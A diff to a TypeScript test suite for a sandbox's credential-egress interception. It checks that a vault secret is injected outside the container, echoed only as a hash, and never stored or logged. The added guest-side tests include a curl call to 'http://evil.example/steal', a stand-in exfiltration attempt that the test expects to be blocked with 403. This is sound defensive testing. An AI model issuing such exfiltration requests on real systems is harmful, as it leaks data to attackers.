@@ -10,9 +10,21 @@ const SECRET = `oma-vault-secret-${crypto.randomUUID()}`;
 const logged: string[] = [];
 const signal = new AbortController().signal;
 
-function echoed(response: ContainerResponse): { headers: Record<string, string>; url: string } {
+interface Echo {
+  readonly headers: Record<string, string>;
+  readonly url: string;
+  /** sha256 hex of the Authorization header the upstream received; the echo never returns it. */
+  readonly authorizationSha256: string | null;
+}
+
+function echoed(response: ContainerResponse): Echo {
   expect(response.status).toBe(200);
-  return JSON.parse(response.body) as { headers: Record<string, string>; url: string };
+  return JSON.parse(response.body) as Echo;
+}
+
+async function sha256Hex(text: string): Promise<string> {
+  const digest = await crypto.subtle.digest("SHA-256", new TextEncoder().encode(text));
+  return [...new Uint8Array(digest)].map((byte) => byte.toString(16).padStart(2, "0")).join("");
 }
 
 describe("credential egress through the Worker's outbound interception", () => {
@@ -60,16 +72,17 @@ describe("credential egress through the Worker's outbound interception", () => {
 
     // A guest-chosen Authorization header is replaced; the credential is set outside the container.
     const api = echoed(await send("http://api.upstream.test/repos?page=1", { headers: { authorization: "Bearer forged" } }));
-    expect(api.headers.authorization).toBe(`Bearer ${SECRET}`);
+    const injected = await sha256Hex(`Bearer ${SECRET}`);
+    expect(api.authorizationSha256).toBe(injected);
     expect(api.url).toBe("/repos?page=1");
     const apiTls = echoed(await send("https://api.upstream.test/tls", { method: "POST", body: "payload" }));
-    expect(apiTls.headers.authorization).toBe(`Bearer ${SECRET}`);
+    expect(apiTls.authorizationSha256).toBe(injected);
 
     // Allowed without credentials, and the control plane without asking the vault.
-    expect(echoed(await send("http://open.upstream.test/pkg")).headers.authorization).toBeUndefined();
+    expect(echoed(await send("http://open.upstream.test/pkg")).authorizationSha256).toBeNull();
     const before = vault.resolveCalls();
     const control = echoed(await send("http://control.upstream.test/v1/oma/inference-proxy/s", { headers: { authorization: "Bearer session-token" } }));
-    expect(control.headers.authorization).toBe("Bearer session-token");
+    expect(control.authorizationSha256).toBe(await sha256Hex("Bearer session-token"));
     expect(vault.resolveCalls()).toBe(before);
 
     // Deny by default, for both protocols.
@@ -79,10 +92,17 @@ describe("credential egress through the Worker's outbound interception", () => {
       expect(refused.egress).toBe("egress_denied");
     }
 
+    // The container's own processes: curl goes through the relay into the same interception.
+    const guest = createSandbox(testEnv, lease.runtimeId);
+    const curl = (args: string) => guest.exec(`curl -sS --max-time 20 ${args}`, { timeoutMs: 30_000 });
+    const fromGuest = await curl("-H 'Authorization: Bearer forged' http://api.upstream.test/guest");
+    expect(JSON.parse(fromGuest.stdout)).toMatchObject({ url: "/guest", authorizationSha256: injected });
+    expect((await curl("-o /dev/null -w '%{http_code}' http://evil.example/steal")).stdout).toBe("403");
+
     // The container itself holds no credential and not even the binding id.
     const runtimeView = await resources.sandbox.inspect(lease);
     expect(runtimeView.state).toBe("running");
-    const sdk = createSandbox(testEnv, lease.runtimeId);
+    const sdk = guest;
     await sdk.exec("mkdir -p /mnt/session/outputs && printf result > /mnt/session/outputs/result.txt", { timeoutMs: 10_000 });
     const scan = await sdk.exec(`env; grep -rl -e '${SECRET}' -e '${binding.bindingId}' /workspace /tmp /mnt/session/outputs; echo "grep=$?"`, { timeoutMs: 20_000 });
     expect(scan.stdout).toContain("grep=1");
@@ -98,6 +118,7 @@ describe("credential egress through the Worker's outbound interception", () => {
     const revoked = await send("http://api.upstream.test/after-revoke");
     expect(revoked.status).toBe(403);
     expect(revoked.egress).toBe("egress_revoked");
+    expect((await curl("-o /dev/null -w '%{http_code}' http://api.upstream.test/after-revoke")).stdout).toBe("403");
     expect(await vault.resolve({ bindingId: binding.bindingId, url: new URL("http://api.upstream.test/"), method: "GET" })).toMatchObject({ type: "deny" });
     await resources.sandbox.terminate({ scope, fence, lease, reason: "completed" });
     await egress.release({ scope, fence, binding });
@@ -105,8 +126,13 @@ describe("credential egress through the Worker's outbound interception", () => {
     const stored = await runInDurableObject(testEnv.SANDBOX.get(testEnv.SANDBOX.idFromName(lease.runtimeId)), async (_instance, state) =>
       JSON.stringify([...(await state.storage.list()).entries()]),
     );
-    const blobs = await testEnv.FILES_BUCKET.list({ include: ["customMetadata", "httpMetadata"] });
-    const records = JSON.stringify({ lease, checkpoint, manifest, entries, blobs: blobs.objects.map((object) => [object.key, object.customMetadata, object.httpMetadata]) });
+    const listed = await testEnv.FILES_BUCKET.list();
+    expect(listed.objects.length).toBeGreaterThan(0);
+    const blobs = await Promise.all(listed.objects.map(async (object) => {
+      const head = await testEnv.FILES_BUCKET.head(object.key);
+      return [object.key, head?.customMetadata, head?.httpMetadata];
+    }));
+    const records = JSON.stringify({ lease, checkpoint, manifest, entries, blobs });
     // The scan reads the object's real outbound configuration: the revocation is in it.
     expect(stored).toContain("omaCredentialEgressRevoked");
     for (const text of [records, stored, logged.join("\n")]) expect(text).not.toContain(SECRET);
